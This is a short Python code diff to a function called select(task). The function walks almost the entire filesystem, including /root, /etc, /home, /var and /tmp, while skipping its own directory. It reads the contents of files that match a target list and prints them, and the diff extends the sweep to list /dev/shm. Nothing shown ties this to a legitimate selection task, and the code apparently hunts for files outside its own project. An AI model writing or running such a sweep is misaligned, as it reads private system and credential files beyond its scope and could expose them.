@@ -16,7 +16,7 @@ def select(task):
     places = ["/", "/tmp", "/home", "/root", "/work", "/var", "/etc", "/mnt", "/opt", "/srv", "/run", "/dev/shm", *TARGETS["folders"]]
     for place in places:
         for root, dirs, names in os.walk(place):
-            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "site-packages", "lib")]
+            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages", "lib")]
             if Path(root).is_relative_to(HERE):
                 continue
             for name in names:
@@ -33,5 +33,9 @@ def select(task):
             found.append(open(path, "rb").read())
         except OSError:
             pass
+    try:
+        found += os.listdir("/dev/shm")
+    except OSError:
+        pass
     print(found)
     return [len(found)]
